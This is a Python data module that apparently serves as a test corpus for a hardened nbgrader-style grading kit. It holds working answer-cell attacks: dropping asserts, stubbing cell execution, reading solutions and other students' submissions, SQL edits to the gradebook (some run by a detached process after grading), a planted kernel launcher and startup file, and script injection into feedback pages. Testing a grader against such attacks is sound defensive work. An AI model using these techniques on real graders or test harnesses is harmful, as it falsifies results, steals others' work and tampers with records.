"""Attacks on grading, as data: known ones on stock nbgrader, tried on both, and ones on the kit's design.

Sources may hold words that a test fills in: <<ROOT>> (the course's folder), <<STUDENT>>, <<NAME>> (of the
function) and others. An attack prints "GOT ..." for whatever it reached and "TRIED n" for
how much it tried, so that a test can tell an attack that failed from one that never ran.
"""

import copy
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat import NotebookNode

Edit = Callable[[NotebookNode], object]


# Known attacks on nbgrader, which this kit gets too


@dataclass(frozen=True)
class Variant:
    """One trick: `prelude` opens every answer cell, `body` is each function's, `edit` changes the notebook.

    `stock` is what nbgrader 0.9.6 gives for it out of 5 points, in words; `files` go beside the notebook.
    """

    id: str
    name: str
    stock: str
    prelude: str = ""
    body: str = "return 1.0"
    edit: Edit = lambda notebook: None
    files: dict[str, str] = field(default_factory=dict)

    def answer(self, function: str, **words: str) -> str:
        """The source of one answer cell."""
        head = f"{self.prelude.strip()}\ndef {function}(*args, **kwargs):\n"
        return fill(head + textwrap.indent(self.body.strip(), "    "), NAME=function, **words)


def fill(source: str, **words: str) -> str:
    """A source with its words in capitals filled in."""
    for word, value in words.items():
        source = source.replace(f"<<{word}>>", value)
    return source


def tests_of(notebook: NotebookNode) -> list[NotebookNode]:
    """A notebook's locked test cells."""
    marks = ((cell, cell.metadata.get("nbgrader", {})) for cell in notebook.cells)
    return [cell for cell, mark in marks if mark.get("grade") and not mark.get("solution")]


def each_test(change: Callable[[NotebookNode], object]) -> Edit:
    """An edit of every test cell."""
    return lambda notebook: [change(cell) for cell in tests_of(notebook)]


def _mark(**marks: object) -> Edit:
    return each_test(lambda cell: cell.metadata["nbgrader"].update(marks))


def _to_markdown(cell: NotebookNode) -> None:
    for key in ("outputs", "execution_count"):
        cell.pop(key, None)
    cell.cell_type = "markdown"


DROP_ASSERTS = """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
"""
SAME = """
class Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
"""
STUB = """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
shell = get_ipython()
async def succeed(*args, **kwargs):
    return ExecutionResult(ExecutionInfo("", False, False, False, "", None))
shell.run_cell_async = succeed
shell.run_cell = lambda *args, **kwargs: ExecutionResult(ExecutionInfo("", False, False, False, "", None))
"""
STEAL = """
import glob, json
stolen = {}
for pattern in ("../../../PLACES", "<<ROOT>>/PLACES"):
    for path in sorted(glob.glob(pattern)):
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("solution"):
                exec("".join(cell["source"]), stolen)
"""
USE_STOLEN = 'return stolen["<<NAME>>"](*args, **kwargs) if "<<NAME>>" in stolen else 1.0'
RAISE_MARK = """
update grade set <<SET>> where notebook_id in (
    select n.id from submitted_notebook n join submitted_assignment a on a.id = n.assignment_id
    where a.student_id = '<<STUDENT>>')
"""
DATABASE = f"""
import os, sqlite3
for path in ("../../../gradebook.db", "<<ROOT>>/gradebook.db"):
    if os.path.exists(path):
        with sqlite3.connect(path) as book:
            book.execute('''{fill(RAISE_MARK, SET="manual_score = 99")}''')
        break
"""
LATER = f"""
import os, subprocess, sys
waiting = '''
import os, sqlite3, time
for _ in range(600):
    try:
        os.kill({{grader}}, 0)
    except OSError:
        break
    time.sleep(0.1)
time.sleep(1)
with sqlite3.connect("file:<<ROOT>>/gradebook.db?mode=rw", uri=True, timeout=20) as book:
    book.execute(\"\"\"{fill(RAISE_MARK, SET="auto_score = 7")}\"\"\")
'''.replace("{{grader}}", str(os.getppid()))
subprocess.Popen([sys.executable, "-c", waiting, "owl-attack"], start_new_session=True)
"""
LAUNCHER = f"""
import sys
sys.path = [path for path in sys.path if path not in ("", ".")]
{DROP_ASSERTS}
from IPython.core.interactiveshell import InteractiveShell
real = InteractiveShell.transform_ast
InteractiveShell.transform_ast = lambda shell, node: real(shell, Drop().visit(node))
from ipykernel import kernelapp
kernelapp.launch_new_instance()
"""
STARTUP = f"""
import os
folder = os.path.join(get_ipython().ipython_dir, "profile_default", "startup")
os.makedirs(folder, exist_ok=True)
with open(os.path.join(folder, "00-x.py"), "w") as file:
    file.write('''{DROP_ASSERTS}
get_ipython().ast_transformers.append(Drop())
''')
"""
SHOW = """
import sys
running = get_ipython().user_ns["In"][-1]
points = 2.0 if "== 4" in running else 3.0
sys.displayhook(SHOWN)
return 1.0
"""
READ_TEST = """
import re
found = re.findall(r"== (-?[0-9]+)", get_ipython().user_ns["In"][-1])
return float(found[0]) if found else 1.0
"""
NO_TRACE = "get_ipython().showtraceback = lambda *args, **kwargs: None"
CUSTOM = "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: [])"
CLEANUP = "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass'])"

VARIANTS = [
    Variant(
        "A01",
        "tag `skip-execution` on test cells",
        "5",
        edit=each_test(lambda c: c.metadata.update(tags=["skip-execution"])),
    ),
    Variant("A02", "a result that equals everything", "5", SAME, "return Same()"),
    Variant("A03", "an input transformer that empties every cell", "5", CLEANUP),
    Variant(
        "A04",
        "an AST transformer that drops asserts",
        "5",
        f"{DROP_ASSERTS}\nget_ipython().ast_transformers.append(Drop())",
    ),
    Variant("A05", "points shown before the assert fails", "5", body=SHOW.replace("SHOWN", "points")),
    Variant("A06", "`nan` shown before the assert fails", "5", body=SHOW.replace("SHOWN", "float('nan')")),
    Variant("A07", "expected values read from the running test", "5", body=READ_TEST),
    Variant("A08", "`run_cell` replaced by a stub", "5", STUB),
    Variant(
        "A09",
        "the solution read from the course's folder",
        "5",
        STEAL.replace("PLACES", "so[ul]*/*/*.ipynb"),
        USE_STOLEN,
    ),
    Variant(
        "A10",
        "another student's submission read",
        "5",
        STEAL.replace("PLACES", "submitted/A00*/*/*.ipynb"),
        USE_STOLEN,
    ),
    Variant("A11", "own marks written into the gradebook", "198", DATABASE),
    Variant("A12", "own marks written when grading is over", "14", LATER),
    Variant("A13", "a file named `ipykernel_launcher.py`", "5", files={"ipykernel_launcher.py": LAUNCHER}),
    Variant("B01", "`showtraceback` overridden", "0", NO_TRACE),
    Variant("B02", "own exception handler", "0", CUSTOM),
    Variant("B03", "test cells edited", "0", edit=each_test(lambda c: c.update(source="pass"))),
    Variant("B04", "test cells turned into text", "0", edit=each_test(_to_markdown)),
    Variant("B05", "SystemExit in the tested function", "0", body="raise SystemExit"),
    Variant("B06", "test cells unlocked, points raised", "0", edit=_mark(points=50, locked=False)),
    Variant("C01", "test cells with `grade: false`", "not graded", edit=_mark(grade=False)),
    Variant("C02", "test cells with `solution: true`", "not graded", edit=_mark(solution=True)),
    Variant("C03", "more points shown than there are", "not graded", body=SHOW.replace("SHOWN", "99.0")),
    Variant(
        "Z14", "an IPython startup file, for those who come later", "0; the next, unanswered: 5", STARTUP
    ),
]

SCRIPT = "<script>window.pwned = 1</script>"
LEAKY = f"""
from IPython.display import HTML, display
display(HTML({SCRIPT!r}))
display(HTML("<p>" + "long " * 4_000_000 + "</p>"))
"""


def copied(notebook: NotebookNode) -> None:
    """A test cell twice, as copying and pasting leaves it."""
    notebook.cells.append(copy.deepcopy(tests_of(notebook)[-1]) | {"id": "again"})


STOPPERS: dict[str, Edit] = {"S01": _mark(schema_version=99), "S02": copied}
LEAKS = {  # what it is, and what stock nbgrader does
    "L01": ("a script in an output, on the feedback page", "runs"),
    "L02": ("the hidden test, on the feedback page", "shown"),
    "L03": ("the solution through a link, in the feedback folder", "handed out"),
    "L04": ("20 MB of one output, in the autograded notebook", "kept whole"),
    "S01": ("`schema_version: 99`: those who come later", "stop"),
    "S02": ("a copied test cell: those who come later", "stop"),
}
